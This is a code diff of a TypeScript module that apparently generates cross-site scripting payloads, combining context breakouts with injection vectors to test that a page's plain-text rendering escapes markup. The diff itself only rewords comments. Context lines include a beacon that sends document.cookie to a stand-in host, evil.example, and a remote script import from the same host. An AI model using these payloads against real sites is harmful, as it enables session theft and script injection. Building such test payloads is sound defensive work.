@@ -2,7 +2,7 @@ const hit = "window.__executed=1";
 const beacon = "fetch('http://evil.example/'+document.cookie)";
 const code = [hit, beacon, "alert(1)", "import('//evil.example/x.js')", `top.postMessage(1);${hit}`];
 
-/** Ways to make a browser run code out of a text, each around one of the codes. */
+/** Ways to make a browser run code in a text. */
 const vectors: ((code: string) => string)[] = [
   (js) => `<script>${js}</script>`,
   (js) => `<img src=x onerror="${js}">`,
@@ -30,10 +30,10 @@ const vectors: ((code: string) => string)[] = [
   (js) => `");${js};//`,
   (js) => `\\u003cscript>${js}\\u003c/script>`,
 ];
-/** What could close the place that the text stands in: an attribute, a script, a comment, RSC's own stream of data. */
+/** What could end the context around the text: an attribute, a script, a comment, or RSC's data stream. */
 const breakouts = ["", '">', "'>", "</script>", "-->", "]]>", '"]]\n0:"', "</title></textarea>", "&lt;", "\\"];
 
-/** So many different texts, evenly over all ways; none longer than what a page shows of one. */
+/** `count` different texts, spread evenly over all ways. None is longer than what a page shows. */
 export function markupPayloads(count: number): string[] {
   const all = breakouts.flatMap((out) => vectors.flatMap((vector) => code.map((js) => out + vector(js))));
   const short = [...new Set(all)].filter((text) => text.length <= 118);
@@ -41,7 +41,7 @@ export function markupPayloads(count: number): string[] {
   return Array.from({ length: count }, (_, index) => short[Math.floor((index * short.length) / count)] ?? "");
 }
 
-/** As `plainText` shows it. */
+/** The text as `plainText` shows it. */
 export function asShown(text: string): string {
   return text.replace(/[\t\n\r]+/g, " ").trim();
 }
